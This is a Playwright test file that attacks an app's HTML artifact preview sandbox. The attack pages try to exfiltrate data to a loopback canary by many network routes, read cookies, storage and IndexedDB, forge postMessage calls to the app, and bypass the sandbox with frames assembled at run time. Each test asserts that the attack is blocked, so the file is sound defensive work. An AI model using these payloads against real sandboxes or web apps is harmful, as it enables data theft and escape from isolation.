// Attacks on the artifact preview: HTML artifacts that try to reach the
// network (fetch, XMLHttpRequest, WebSocket, EventSource, beacons, images,
// CSS url(), @import and fonts, <link> prefetch, preload and preconnect,
// media, SVG references, nested frames, objects, a base URL, workers,
// scripts and modules from elsewhere, WebRTC, directly and through a frame
// of their own), submit forms, open windows, navigate the top window or
// their own frame, forge the sandbox page's messages to the app, and read
// the app's IndexedDB, storage and cookies; then the JavaScript sandbox's
// whole attack corpus (but its resource bombs) run as an artifact's
// scripts. A loopback canary server counts every request, TCP connection
// and UDP datagram: it must see none, and the app's data must be as it was.
import { test, expect } from '@playwright/test';
import { openApp } from '../support/app.mjs';
import { appData, runSkill, startCanary } from '../support/sandbox.mjs';
import { javascriptAttacks } from '../fixtures/attacks/javascript.mjs';

const SECRET = 'hearth-secret-artifact-6d2e';

/// An attack page: `body` is its markup, `script` the code it runs (with
/// `CANARY` the canary's address). The page marks itself done once its
/// attempts have settled, and records in `data-outcome` what each saw.
function page(body, script = '') {
  return `<!doctype html>
<html><body>
${body}
<script>
const outcome = {};
const note = (k, v) => { outcome[k] = String(v).slice(0, 200); document.documentElement.dataset.outcome = JSON.stringify(outcome); };
const attempt = async (k, f) => { try { note(k, 'reached: ' + await f()); } catch (e) { note(k, 'blocked: ' + (e && e.message)); } };
(async () => {
${script}
  await new Promise((r) => setTimeout(r, 300));
  document.documentElement.dataset.done = '1';
})();
</script>
</body></html>`;
}

const RTC = `const pc = new P({ iceServers: [{ urls: 'stun:127.0.0.1:CANARY_PORT' }] }); pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); await new Promise((r) => setTimeout(r, 500)); return 'offered'`;

const attacks = [
  {
    name: 'requests from script',
    html: page('', `
  await attempt('fetch', () => fetch('CANARY/fetch').then((r) => r.status));
  await attempt('fetch no-cors', () => fetch('CANARY/no-cors', { mode: 'no-cors', keepalive: true }).then(() => 'sent'));
  await attempt('xhr', () => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.open('GET', 'CANARY/xhr'); x.onload = () => ok(x.status); x.onerror = () => fail(new Error('xhr blocked')); x.send(); }));
  await attempt('websocket', () => new Promise((ok, fail) => { const w = new WebSocket('CANARY/ws'.replace('http', 'ws')); w.onopen = () => ok('open'); w.onerror = () => fail(new Error('websocket blocked')); }));
  await attempt('eventsource', () => new Promise((ok, fail) => { const e = new EventSource('CANARY/sse'); e.onopen = () => ok('open'); e.onerror = () => fail(new Error('eventsource blocked')); }));
  await attempt('beacon', () => navigator.sendBeacon('CANARY/beacon', 'data'));
  await attempt('module', () => import('CANARY/module.mjs'));
  await attempt('worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/worker')"], { type: 'text/javascript' }))));
  await attempt('service worker', () => navigator.serviceWorker.register('CANARY/sw.js'));
  await attempt('image object', () => new Promise((ok, fail) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => fail(new Error('image blocked')); i.src = 'CANARY/pixel.gif'; }));`),
  },
  {
    name: 'markup that loads from elsewhere',
    html: page(`
<img src="CANARY/img.png" alt="">
<picture><source srcset="CANARY/source.png"><img src="CANARY/picture.png" alt=""></picture>
<input type="image" src="CANARY/input.png" alt="">
<video src="CANARY/video.mp4" poster="CANARY/poster.png" autoplay muted></video>
<audio src="CANARY/audio.mp3" autoplay></audio>
<script src="CANARY/script.js"></script>
<link rel="stylesheet" href="CANARY/style.css">
<link rel="prefetch" href="CANARY/prefetch">
<link rel="preload" as="script" href="CANARY/preload.js">
<link rel="modulepreload" href="CANARY/modulepreload.js">
<link rel="preconnect" href="CANARY/">
<link rel="icon" href="CANARY/favicon.ico">
<svg width="10" height="10"><image href="CANARY/svg-image.png" width="10" height="10"/><use href="CANARY/sprite.svg#a"/></svg>
<object data="CANARY/object"></object>
<embed src="CANARY/embed">
<iframe src="CANARY/frame"></iframe>`),
  },
  {
    name: 'CSS url(), @import and fonts',
    html: page(`
<style>
@import url("CANARY/import.css");
@font-face { font-family: leak; src: url("CANARY/font.woff2"); }
body { background: url("CANARY/background.png"); font-family: leak; cursor: url("CANARY/cursor.png"), auto; }
.mask { mask-image: url("CANARY/mask.png"); width: 10px; height: 10px; }
</style>
<p style="background-image: image-set(url('CANARY/image-set.png') 1x)">styled</p>
<div class="mask"></div>`),
  },
  {
    name: 'a base URL for relative addresses',
    html: page(`<base href="CANARY/based/"><img src="relative.png" alt=""><a id="a" href="relative">link</a>`,
      `await attempt('base', () => document.getElementById('a').href);`),
  },
  {
    name: 'WebRTC, directly and through a frame of its own',
    html: page('', `
  await attempt('direct', async () => { const P = RTCPeerConnection; ${RTC} });
  await attempt('a new frame\\'s window', async () => { const f = document.createElement('iframe'); document.body.append(f); const P = f.contentWindow.RTCPeerConnection; ${RTC} });
  await attempt('window[0]', async () => { const f = document.createElement('iframe'); document.body.append(f); const P = window[0].RTCPeerConnection; ${RTC} });
  await attempt('a srcdoc frame', async () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>(async () => { const P = RTCPeerConnection; ${RTC.replace(/'/g, '&#39;')} })()<\\/script>"></iframe>'); await new Promise((r) => setTimeout(r, 800)); return document.querySelectorAll('iframe').length + ' frames'; });
  await attempt('a frame in a shadow root', async () => { const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe srcdoc="<script>(async () => { const P = RTCPeerConnection; ${RTC.replace(/'/g, '&#39;')} })()<\\/script>"></iframe>'; await new Promise((r) => setTimeout(r, 800)); return root.querySelectorAll('iframe').length + ' frames'; });`),
  },
  {
    name: 'the app\'s data',
    html: page('', `
  await attempt('indexeddb', () => new Promise((ok, fail) => { const r = indexedDB.open('hearth'); r.onsuccess = () => ok([...r.result.objectStoreNames].join()); r.onerror = () => fail(r.error); }));
  await attempt('localstorage', () => localStorage.getItem('hearth-secret'));
  await attempt('cookie', () => document.cookie);
  await attempt('caches', () => caches.keys().then((k) => k.join()));
  await attempt('parent dom', () => parent.document.body.innerHTML.length);
  await attempt('top dom', () => top.document.body.innerHTML.length);`),
    check: (o) => {
      expect(o).not.toBeNull();
      for (const k of ['indexeddb', 'localstorage', 'cookie', 'caches', 'parent dom', 'top dom']) {
        expect(o[k], k).toMatch(/^blocked: /);
      }
    },
  },
  {
    name: 'forged messages to the app',
    html: page('', `
  top.postMessage({ artifact: 'refused', message: 'FORGED refusal' }, '*');
  top.postMessage({ artifact: 'ready' }, '*');
  parent.postMessage({ artifact: 'show', html: '<p>FORGED page</p>' }, '*');
  top.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-refused', params: { message: 'FORGED' } }, '*');
  top.postMessage({ kind: 'result', outcome: { status: 'completed', stdout: 'FORGED' } }, '*');
  note('posted', 'yes');`),
  },
  {
    name: 'forms',
    html: page(`
<form id="f" action="CANARY/form" method="post"><input name="a" value="b"><button id="b" formaction="CANARY/formaction">go</button></form>`, `
  await attempt('submit', () => { document.getElementById('f').submit(); return 'submitted'; });
  await attempt('request submit', () => { document.getElementById('f').requestSubmit(document.getElementById('b')); return 'submitted'; });`),
  },
  {
    name: 'windows and the top window',
    html: page(`
<a id="blank" href="CANARY/blank" target="_blank">new</a>
<a id="toplink" href="CANARY/toplink" target="_top">top</a>`, `
  await attempt('open', () => String(window.open('CANARY/popup')));
  await attempt('target blank', () => { document.getElementById('blank').click(); return 'clicked'; });
  await attempt('target top', () => { document.getElementById('toplink').click(); return 'clicked'; });
  await attempt('top location', () => { top.location = 'CANARY/top'; return 'set'; });
  await attempt('parent location', () => { parent.location = 'CANARY/parent'; return 'set'; });`),
  },
  {
    name: 'the JavaScript sandbox\'s attack corpus',
    html: page('', javascriptAttacks
      // Resource bombs test the sandbox's run limits, which a preview
      // does not have; they would only hang this page.
      // Navigating itself ends the page; "forms, windows and navigation"
      // tries that last.
      .filter((a) => !a.timeout_ms && !/bomb|recursion|without limit|flooding|navigating itself/.test(a.name))
      .map((a, i) => `  await attempt(${JSON.stringify(`${i} ${a.name}`)}, async () => { ${a.code.replaceAll('APP', 'location.origin')} });`)
      .join('\n')),
  },
  {
    // A frame tag written as markup at run time, from pieces no rewrite
    // of the source can see, through every way a script can hand the
    // parser markup; Chromium would connect to a parsed frame's address
    // before the policy refused its load.
    name: 'frame tags assembled at run time',
    html: page(`<div id="edit" contenteditable="true"></div><template id="t"></template>
<script>document.write('<' + 'ifr' + 'ame src="CANARY/write"></' + 'ifr' + 'ame>'); document.writeln('<' + 'ifr' + 'ame src="CANARY/writeln"></' + 'ifr' + 'ame>');</script>`, `
  const tag = (path) => '<' + 'ifr' + 'ame src="CANARY/' + path + '"></' + 'ifr' + 'ame>';
  const frames = () => document.querySelectorAll('iframe').length + ' frames';
  const settle = () => new Promise((r) => setTimeout(r, 150));
  await attempt('innerHTML', async () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = tag('inner'); await settle(); return frames(); });
  await attempt('outerHTML', async () => { const d = document.createElement('div'); document.body.append(d); d.outerHTML = tag('outer'); await settle(); return frames(); });
  await attempt('insertAdjacentHTML', async () => { document.body.insertAdjacentHTML('beforeend', tag('adjacent')); await settle(); return frames(); });
  await attempt('createContextualFragment', async () => { document.body.append(document.createRange().createContextualFragment(tag('fragment'))); await settle(); return frames(); });
  await attempt('DOMParser', async () => { const doc = new DOMParser().parseFromString(tag('parsed'), 'text/html'); document.body.append(document.importNode(doc.body, true)); await settle(); return frames(); });
  await attempt('parseHTMLUnsafe', async () => { const doc = Document.parseHTMLUnsafe(tag('unsafe-doc')); document.body.append(document.adoptNode(doc.body)); await settle(); return frames(); });
  await attempt('setHTMLUnsafe', async () => { const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(tag('unsafe')); await settle(); return frames(); });
  await attempt('template', async () => { const t = document.getElementById('t'); t.innerHTML = tag('template'); document.body.append(t.content.cloneNode(true)); await settle(); return frames(); });
  await attempt('shadow root', async () => { const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'open' }).innerHTML = tag('shadow'); await settle(); return frames(); });
  await attempt('execCommand', async () => { const e = document.getElementById('edit'); e.focus(); document.execCommand('insertHTML', false, tag('exec')); await settle(); return frames(); });
  await attempt('a new document', async () => { const doc = document.implementation.createHTMLDocument('x'); doc.body.innerHTML = tag('new-doc'); document.body.append(document.adoptNode(doc.body)); await settle(); return frames(); });
  await attempt('prototype swapped first', async () => { String.prototype.replace = function () { return this; }; RegExp.prototype.exec = () => null; Array.prototype.slice = function () { return this; }; const d = document.createElement('div'); document.body.append(d); d.innerHTML = tag('swapped'); await settle(); return frames(); });`),
    check: (outcome) => {
      for (const [k, v] of Object.entries(outcome)) {
        if (v.startsWith('reached')) expect(v, k).toBe('reached: 0 frames');
      }
    },
  },
  // Last: what they may open is a bare connection, which could arrive
  // during a later attack.
  {
    name: 'navigating its own frame',
    navigates: true,
    html: page('', `
  await new Promise((r) => setTimeout(r, 100));
  location.href = 'CANARY/self';`),
  },
  {
    name: 'a refresh to elsewhere',
    navigates: true,
    html: page('<meta http-equiv="refresh" content="0; url=CANARY/refresh">'),
  },
];

test.describe.configure({ mode: 'default' });
let tab;
let canary;
let errors;
let before;

test.beforeAll(async ({ browser }) => {
  canary = await startCanary();
  tab = await browser.newPage();
  errors = await openApp(tab);
  await tab.evaluate((secret) => {
    localStorage.setItem('hearth-secret', secret);
    document.cookie = `hearth_secret=${secret}; path=/; SameSite=Strict`;
  }, SECRET);
  // The first command starts a conversation, which artifacts belong to.
  const seeded = await runSkill(tab, 'notes', { action: 'create', title: SECRET });
  expect(seeded.status).toBe('completed');
  before = await appData(tab);
});

test.afterAll(async () => {
  await tab?.close();
  await canary?.close();
});

/// What the preview's attempts saw, once they have settled; `null` when
/// the preview's frame was navigated (the browser then shows its own error
/// page in it, and what was tried is judged by the canary alone).
async function settledPreview(p) {
  let outcome;
  await expect.poll(async () => {
    const holder = p.frames().find((f) => f.url().endsWith('/sandbox/artifact.html'));
    const inner = holder?.childFrames()[0];
    if (!inner) return false;
    if (inner.url() !== 'about:srcdoc') {
      outcome = null;
      return true;
    }
    const done = await inner.evaluate(() => document.documentElement.dataset.done === '1').catch(() => false);
    if (done) {
      // The corpus pollutes JSON and prototypes; what cannot be read
      // back is kept as text, for the secret check.
      const raw = await inner.evaluate(() => document.documentElement.dataset.outcome || '{}');
      try { outcome = JSON.parse(raw); } catch { outcome = { raw }; }
    }
    return done;
  }, { timeout: 20_000 }).toBe(true);
  return outcome;
}

for (const attack of attacks) {
  test(`artifact attack: ${attack.name}`, async () => {
    const source = attack.html
      .replaceAll('CANARY_PORT', String(canary.port))
      .replaceAll('CANARY', canary.url);
    const made = await runSkill(tab, 'create_artifact', { title: attack.name, kind: 'html', source });
    expect(made.status, made.output).toBe('completed');
    await tab.locator('.artifact-open').last().click();
    const panel = tab.getByRole('complementary', { name: attack.name });
    await expect(panel).toBeVisible();
    const outcome = await settledPreview(tab);
    if (attack.check) attack.check(outcome);
    for (const v of Object.values(outcome ?? {})) expect(v).not.toContain(SECRET);
    // Nothing forged reached the panel, and the app still answers.
    await expect(panel.getByRole('alert')).toHaveCount(0);
    await expect(panel).not.toContainText('FORGED');
    // An attack may keep the keyboard in its frame (a focused editable):
    // the panel's heading takes it back before Escape.
    await panel.locator('h2').focus();
    await tab.keyboard.press('Escape');
    await expect(tab.locator('.artifact-panel')).toHaveCount(0);
    if (attack.navigates) {
      // Chromium opens a TCP connection to where a frame navigates before
      // the policy refuses the navigation, so a bare connection can reach
      // the canary (docs/security.md, "Known gap"); no request may.
      expect(canary.hits().filter((h) => !h.startsWith('TCP connection')), attack.name).toEqual([]);
    } else {
      expect(canary.hits(), attack.name).toEqual([]);
    }
  });
}

test('artifact attacks: nothing reached the network, and the app\'s data is as it was but for the artifacts', async () => {
  expect(canary.hits().filter((h) => !h.startsWith('TCP connection'))).toEqual([]);
  const after = await appData(tab);
  for (const store of Object.keys(before)) {
    if (['artifacts', 'activity', 'conversations', 'usage'].includes(store)) continue;
    expect(after[store], store).toEqual(before[store]);
  }
  expect(after.artifacts.map((a) => a.title).sort()).toEqual(attacks.map((a) => a.name).sort());
  expect(await tab.evaluate(() => localStorage.getItem('hearth-secret'))).toBe(SECRET);
  expect(errors).toEqual([]);
});
